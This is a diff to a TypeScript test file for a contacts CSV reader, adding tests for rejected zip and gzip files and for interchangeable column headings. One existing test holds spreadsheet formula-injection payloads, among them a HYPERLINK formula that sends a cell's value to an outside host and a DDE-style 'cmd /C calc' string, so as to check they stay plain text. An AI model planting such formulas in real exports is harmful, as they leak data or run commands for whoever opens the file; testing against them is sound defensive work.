@@ -1,11 +1,12 @@
 import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { readTable } from "../../src/contacts/read-table.ts";
+import { cellsOf } from "../../src/contacts/recognise-columns.ts";
 import { Problem } from "../../src/core/problem.ts";
 
 const bytes = (text: string) => new TextEncoder().encode(text);
 const file = (name: string) => readFileSync(new URL(`../fixtures/csv/${name}`, import.meta.url));
-const cellsOf = (name: string) => readTable(file(name), { where: name }).rows.map((row) => row.cells);
+const rowsOf = (name: string) => readTable(file(name), { where: name }).rows.map((row) => row.cells);
 const columnsOf = (name: string) => [...readTable(file(name)).columns.places.keys()];
 
 function problemOf(read: () => unknown): Problem {
@@ -52,11 +53,11 @@ describe("a table", () => {
     ]);
   });
   it("is read with pipes and a byte-order mark (N-16)", () => {
-    expect(cellsOf("n16-pipe-bom.csv")).toEqual([["A", "a@b.co"]]);
+    expect(rowsOf("n16-pipe-bom.csv")).toEqual([["A", "a@b.co"]]);
     expect(columnsOf("n16-pipe-bom.csv")).toEqual(["name", "email"]);
   });
   it("keeps formulas as the text that they are (N-1, N-2, N-3)", () => {
-    expect(cellsOf("n01-n03-formulas.csv")).toEqual([
+    expect(rowsOf("n01-n03-formulas.csv")).toEqual([
       ["Ana", "ana@x.example", '=HYPERLINK("http://e.co?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"],
       ["Bo", "bo@x.example", "\t=1+1", "＝1+1"],
     ]);
@@ -102,6 +103,31 @@ describe("a file that is no table", () => {
   it("is not one for a million empty rows, which are no rows (N-10)", () => {
     const table = readTable(bytes(`name,email\n${"\n".repeat(1_000_000)}A,a@b.co\n`));
     expect(table.rows).toEqual([{ line: 1_000_002, cells: ["A", "a@b.co"] }]);
+  });
+});
+
+describe("a packed file", () => {
+  it("is not unpacked, and it is said what to import instead (N-25, C-37)", () => {
+    const zip = Uint8Array.from([0x50, 0x4b, 3, 4, ...Array.from({ length: 500 }, () => 0)]);
+    const gzip = Uint8Array.from([0x1f, 0x8b, 8, 0, ...Array.from({ length: 10_000 }, (_, n) => n % 251)]);
+    for (const packed of [zip, gzip]) {
+      const problem = problemOf(() => readTable(packed, { where: "export.zip" }));
+      expect(problem.message).toContain("packed file");
+      expect(problem.next).toContain("Connections.csv");
+    }
+  });
+});
+
+describe("columns of one meaning", () => {
+  it("stand in for each other, and a title before the name is no role", () => {
+    const table = readTable(
+      bytes(
+        "Title,First Name,Job Title,E-mail Address,E-mail 2 Address,Business City,Home City\nDr.,Ana,Nurse,,a@b.co,,Rome",
+      ),
+    );
+    const cell = cellsOf(table.columns, table.rows[0]?.cells ?? []);
+    expect([cell("role"), cell("email"), cell("city")]).toEqual(["Nurse", "a@b.co", "Rome"]);
+    expect(table.columns.unused).toMatchObject([{ heading: "Title" }]);
   });
 });
 
